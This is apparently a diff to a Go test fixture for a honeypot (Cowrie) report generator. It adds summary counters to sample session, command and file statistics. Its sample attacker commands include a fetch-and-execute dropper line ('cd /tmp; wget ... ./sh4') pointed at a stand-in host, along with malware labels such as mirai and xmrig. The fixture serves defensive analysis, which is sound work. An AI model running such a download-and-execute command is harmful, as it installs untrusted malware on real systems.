@@ -30,7 +30,7 @@ func Full() *report.Document {
 		Total: 18234, UniqueIPs: 2711, WithCommands: 4120, AvgCommands: 2.37, MaxCommands: 61,
 		FileDownloads: 1209, FileUploads: 83, LoginAttempts: 96415, LoggedIn: 6022, VTFlagged: 310, DShield: 12,
 		AvgDuration: 31.42, MedDuration: 4.2, MaxDuration: 7214.9,
-		Protocols: []report.Count{{Value: "ssh", Count: 16011}, {Value: "telnet", Count: 2223}},
+		Protocols: []report.Count{{Value: "ssh", Count: 16011}, {Value: "telnet", Count: 2223}}, UniqueProtocols: 2, UniqueVersions: 41,
 		TopIPs: []report.Count{{Value: "192.0.2.170", Count: 1922}, {Value: "198.51.100.23", Count: 1200},
 			{Value: "203.0.113.9", Count: 418}, {Value: "2001:db8::bad:cafe", Count: 7}},
 		ClientVersions: []report.Count{{Value: "SSH-2.0-Go", Count: 9120}, {Value: "SSH-2.0-libssh_0.9.6", Count: 4011}, {Value: "SSH-2.0-PUTTY", Count: 12}},
@@ -46,7 +46,7 @@ func Full() *report.Document {
 	d.Sessions.TopUsernames, d.Sessions.TopPasswords = d.Logins.Usernames, d.Logins.Passwords
 	d.Sessions.TopCombinations = []report.Count{{Value: "root:123456", Count: 3010}}
 	d.Commands = report.Commands{
-		Total: 43211, Unique: 913,
+		Total: 43211, Unique: 913, RareTotal: 301,
 		Top: []report.Command{{Command: "uname -a", Occurrences: 3120, Sessions: 3011},
 			{Command: "cat /proc/cpuinfo | grep name | wc -l", Occurrences: 2100, Sessions: 2100},
 			{Command: "cd /tmp; wget http://mirror.invalid/.x/sh4 -O sh4; chmod 777 sh4; ./sh4", Occurrences: 310, Sessions: 296}},
@@ -55,6 +55,7 @@ func Full() *report.Document {
 	}
 	d.Files = report.Files{
 		Downloads: 1209, Uploads: 83, Failed: 140, OnDisk: 3, UniqueHashes: 97, NewHashes: 14, Classifications: 9, RecentVT: 2,
+		UniqueURLs: 60, UniqueNames: 12, UniquePaths: 31, UniqueHosts: 22, UniqueTypes: 2,
 		TopClassifications: []report.Count{{Value: "trojan.mirai/gafgyt", Count: 31}, {Value: "miner.xmrig/coinminer", Count: 4}},
 		TopHashes: []report.FileCount{
 			{Shasum: hash("a8f0"), Count: 902, Sessions: 890, Name: "authorized_keys", Type: "text/plain", Size: ptr[int64](389), Status: "known",
@@ -84,6 +85,7 @@ func Full() *report.Document {
 		IPs: []string{"192.0.2.170"}, Files: []report.FlaggedFile{
 			{Shasum: hash("53c9"), Malicious: 41, Label: "trojan.mirai/gafgyt", FirstSeen: at("2026-03-05T02:00:00Z")},
 			{Shasum: hash("64b5"), Malicious: 27, Label: "downloader.medusa/shell", FirstSeen: cowrie.NoTime}}}}
+	d.Enrichments.FlaggedFiles = 412
 	d.Abnormalities = report.Abnormalities{
 		UncommonCommands: []string{"0c59ab88c2f1"}, RecentVT: []string{"e07c7e8d0baf"},
 		Sessions: []report.Abnormal{
